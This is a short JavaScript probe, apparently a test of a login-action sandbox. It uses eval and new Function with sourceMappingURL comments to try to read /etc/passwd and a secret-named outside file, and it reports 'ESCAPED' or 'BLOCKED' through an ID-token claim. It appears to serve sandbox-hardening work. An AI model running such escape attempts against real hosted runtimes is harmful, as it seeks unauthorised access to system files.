// sourceMappingURL and sourceURL comments make nobody read or name another file
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  new Function('//# sourceMappingURL=file:///etc/passwd\n//# sourceURL=/etc/passwd\nthis.x = 1')(); const f = eval("(() => { throw new Error('mapped'); })\n//# sourceMappingURL=" + 'file://' + S.OUTSIDE_JSON); try { f(); } catch (e) { await attempt('map', () => /canary|root:/.test(e.stack)); } await attempt('maps', () => process.setSourceMapsEnabled(true) === undefined); await attempt('module', () => require('module').setSourceMapsSupport({ enabled: true }) === undefined);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
